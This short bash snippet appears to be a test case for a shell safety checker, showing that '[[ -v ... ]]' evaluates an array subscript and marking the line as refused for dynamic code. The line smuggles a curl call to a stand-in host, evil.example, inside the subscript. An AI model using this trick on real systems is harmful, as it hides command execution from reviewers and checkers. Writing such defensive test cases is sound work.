# Trick: test -v evaluates a subscript.
# Refused: unsafe(dynamic_code)
[[ -v 'a[$(curl http://evil.example/)]' ]]
